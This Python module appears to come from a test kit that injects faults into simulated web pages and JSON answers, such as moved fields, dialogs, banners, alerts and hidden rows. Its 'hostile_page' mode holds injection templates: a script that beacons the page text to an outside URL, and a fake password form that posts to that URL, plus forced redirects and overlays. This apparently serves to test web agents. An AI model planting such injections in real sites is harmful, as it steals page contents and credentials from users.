"""Page faults: what is done to a finished answer, page or JSON, as it is sent."""

import json
import re
from collections.abc import Callable, Mapping
from html import escape
from json import dumps
from typing import Any

from mock_systems.kit.faults import Fault
from mock_systems.kit.form_fields import (
    field_for_code,
    fields_of,
    with_another_id,
    with_at_the_end,
    with_field_after,
    with_places_exchanged,
    without,
)

Change = Callable[[str, Fault], str]

HTML, JSON = "text/html", "application/json"
PHONE = "the telephone whose number ends in 163"

_BODY = re.compile(r"(<body\b[^>]*>).*?(</body>)", re.S)
_TABLE_ROWS = re.compile(r"(<tbody\b[^>]*>).*?(</tbody>)", re.S)
_CARDS = re.compile(
    r"<(section|article) class=\"(?:entry|card contact|order)\b[^>]*>.*?</\1>", re.S
)
_COUNT = re.compile(r"(class=\"count\b[^>]*>\s*)\d+")
_SHOWING = re.compile(r" Showing \d+ to \d+\.?")
_LIST_ROWS = re.compile(r"(<[uo]l\b[^>]*\bclass=\"rows\b[^>]*>).*?(</[uo]l>)", re.S)
_ABOUT_AUTHENTICATOR = re.compile(r"<p>[^<]*authenticator[^<]*</p>")


def changed(text: str, media_type: str, fault: Fault) -> str:
    """The answer as this fault leaves it; the same where there is nothing to do it to."""
    change = _CHANGES.get(media_type, {}).get(fault.mode)
    return change(text, fault) if change else text


def asking_the_telephone(html: str, how: str) -> str:
    """The page of a one-time code, where the proof is a text message or a yes on a telephone.

    `how` is sms or push; nothing else changes a page.
    """
    field = field_for_code(html) if how in ("sms", "push") else None
    if field is None:
        return html
    if how == "push":
        waiting = (
            f'<p role="status">Approve this sign-in on {PHONE}. Waiting for your answer&hellip;</p>'
        )
        return _ABOUT_AUTHENTICATOR.sub("", without(with_field_after(html, field, waiting), field))
    sent = f"<p>We have sent a code by text message to {PHONE}.</p>"
    asked = _ABOUT_AUTHENTICATOR.sub("", with_field_after(html, field, sent))
    return asked.replace("Code from your authenticator", "Code from the message")


def _relabel(html: str, fault: Fault) -> str:
    """The label that is named, else that of the first field of a form."""
    first = next((one.words for one in fields_of(html, None)), "")
    old = fault.args["old"] or first
    if not old:
        return html
    old, new = escape(old), escape(fault.args["new"] or f"{old} (new)")
    for opening, closing in ((">", "<"), ('value="', '"'), ('aria-label="', '"')):
        html = html.replace(f"{opening}{old}{closing}", f"{opening}{new}{closing}")
    return html


def _move_field(html: str, fault: Fault) -> str:
    fields = fields_of(html, fault.args["beside"])
    if not fields:
        return html
    if fault.args["what"] == "order":
        return with_places_exchanged(html, *fields[:2]) if len(fields) > 1 else html
    move = with_another_id if fault.args["what"] == "id" else with_at_the_end
    return move(html, fields[0])


def _remove_field(html: str, fault: Fault) -> str:
    label = fault.args["label"]
    fields = fields_of(html, fault.args["beside"])
    meant = [one for one in fields if label in (None, one.words)]
    return without(html, meant[-1]) if meant else html


def _add_field(html: str, fault: Fault) -> str:
    fields = fields_of(html, fault.args["beside"])
    if not fields:
        return html
    label = f'<label for="new-field">{escape(fault.args["label"])}</label>'
    new = f'{label}<input id="new-field" name="new_field" required>'
    return with_field_after(html, fields[-1], new)


def _lay_dialog_over(html: str, fault: Fault) -> str:
    return _with_dialog(html, fault.args["text"], "Continue")


def _warn_of_end(html: str, fault: Fault) -> str:
    words = f"You will be signed out in {fault.args['minutes']} minutes."
    return _with_dialog(html, words, "Stay signed in")


def _with_dialog(html: str, words: str, button: str) -> str:
    return _before_end(
        html,
        '<div role="dialog" aria-modal="true" aria-label="Message" style="position:fixed;inset:0;'
        'background:rgba(0,0,0,.45);z-index:999"><div style="margin:15vh auto;width:340px;'
        'background:#fffbe6;border:2px solid #7a6a1c;padding:14px">'
        f"<p>{escape(words)}</p>"
        '<button type="button" onclick="this.closest(\'[role=dialog]\').remove()">'
        f"{escape(button)}</button></div></div>",
    )


def _ask_about_cookies(html: str, _fault: Fault) -> str:
    closing = "onclick=\"this.closest('[role=region]').remove()\""
    return _before_end(
        html,
        '<div role="region" aria-label="Cookies" style="position:fixed;left:0;right:0;bottom:0;'
        'background:#f3f2f1;border-top:2px solid #333;padding:14px;z-index:998">'
        "<p>We would like to use cookies to count visits.</p>"
        f'<button type="button" {closing}>Accept all cookies</button> '
        f'<button type="button" {closing}>Reject all cookies</button></div>',
    )


def _open_alert(html: str, fault: Fault) -> str:
    return _before_end(html, f"<script>alert({_as_script(fault.args['text'])})</script>")


def _ask_before_leaving(html: str, _fault: Fault) -> str:
    return _before_end(
        html,
        '<script>addEventListener("beforeunload", (event) => { event.preventDefault(); '
        'event.returnValue = "unsaved"; });</script>',
    )


def _load_for_ever(html: str, _fault: Fault) -> str:
    loading = '<div role="status" aria-busy="true"><p>Loading&hellip;</p></div>'
    return _instead_of_contents(html, loading)


def _leave_rows_out(html: str, _fault: Fault) -> str:
    return _with_rows(html, "Loading&hellip;")


def _hide_rows(html: str, fault: Fault) -> str:
    hidden = _with_rows(html, "")
    if hidden == html:
        return html
    words = (
        f'<p role="status">{fault.args["number"]} records are hidden: '
        "you do not have access to them.</p></main>"
    )
    none_left = _SHOWING.sub("", _COUNT.sub(r"\g<1>0", hidden))
    return none_left.replace("</main>", words, 1)


def _with_rows(html: str, words: str) -> str:
    """Every list with these words in the place of what it lists."""
    row, item, card = (
        f'<{tag} aria-busy="true">{words}</{tag}>' if words else "" for tag in ("td", "li", "p")
    )
    html = _TABLE_ROWS.sub(rf"\1<tr>{row}</tr>\2" if words else r"\1\2", html)
    html = _LIST_ROWS.sub(rf"\1{item}\2", html)
    return _CARDS.sub("", _CARDS.sub(lambda found: card + found[0], html, count=1))


def _ask_to_break_glass(html: str, _fault: Fault) -> str:
    return _instead_of_contents(
        html,
        "<h1>This record is restricted</h1>"
        '<p role="alert">You may break the glass in an emergency. The record\'s owner will be '
        "told at once, and you will be asked why.</p>"
        '<form method="post"><label for="why">Why you need this record</label>'
        '<input id="why" name="why" required><button type="submit">Break the glass</button></form>',
    )


def _put_hostile_in(html: str, fault: Fault) -> str:
    to = fault.args["to"]
    if fault.args["what"] == "meta_refresh":
        return html.replace("<head>", f'<head><meta http-equiv="refresh" content="0;url={to}">', 1)
    return _before_end(html, _HOSTILE[fault.args["what"]](to))


_HOSTILE: Mapping[str, Callable[[str], str]] = {
    "script": lambda to: (
        f"<script>fetch({_as_script(to)}, {{mode: 'no-cors'}}).catch(() => {{}});"
        f"navigator.sendBeacon({_as_script(to)}, document.body.innerText);</script>"
    ),
    "image": lambda to: f'<img src="{escape(to)}" alt="">',
    "frame": lambda to: f'<iframe src="{escape(to)}" title="News"></iframe>',
    "link": lambda to: (
        f'<a href="{escape(to)}" style="position:fixed;inset:0;z-index:997">Continue</a>'
    ),
    "markup": lambda to: (
        f'</main></form></table><form action="{escape(to)}" method="post"><main>'
        '<label for="pw">Password</label><input id="pw" type="password" name="password">'
        '<button type="submit">Save</button>'
    ),
}


def _leave_json_rows_out(text: str, _fault: Fault) -> str:
    return _with_json_list(text, {"rows": []})


def _hide_json_rows(text: str, fault: Fault) -> str:
    return _with_json_list(
        text, {"rows": [], "total": 0, "withheld": fault.args["number"]}, wants="withheld"
    )


def _with_json_list(text: str, more: Mapping[str, Any], wants: str = "rows") -> str:
    answer = json.loads(text)
    if not isinstance(answer, dict) or not answer.get("rows") or wants not in answer:
        return text
    return dumps({**answer, **more})


def _before_end(html: str, more: str) -> str:
    return html.replace("</body>", f"{more}</body>")


def _instead_of_contents(html: str, contents: str) -> str:
    return _BODY.sub(lambda found: f"{found[1]}{contents}{found[2]}", html, count=1)


def _as_script(text: str) -> str:
    return dumps(text).replace("<", "\\u003c")


_CHANGES: Mapping[str, Mapping[str, Change]] = {
    HTML: {
        "moved_label": _relabel,
        "moved_field": _move_field,
        "field_removed": _remove_field,
        "new_mandatory_field": _add_field,
        "list_not_loaded": _leave_rows_out,
        "results_hidden": _hide_rows,
        "never_ready": _load_for_ever,
        "break_glass": _ask_to_break_glass,
        "unknown_dialog": _lay_dialog_over,
        "session_warning": _warn_of_end,
        "cookie_banner": _ask_about_cookies,
        "native_alert": _open_alert,
        "before_unload": _ask_before_leaving,
        "hostile_page": _put_hostile_in,
    },
    JSON: {"list_not_loaded": _leave_json_rows_out, "results_hidden": _hide_json_rows},
}
PAGE_MODES, TEXT_TYPES = tuple(_CHANGES[HTML]), tuple(_CHANGES)
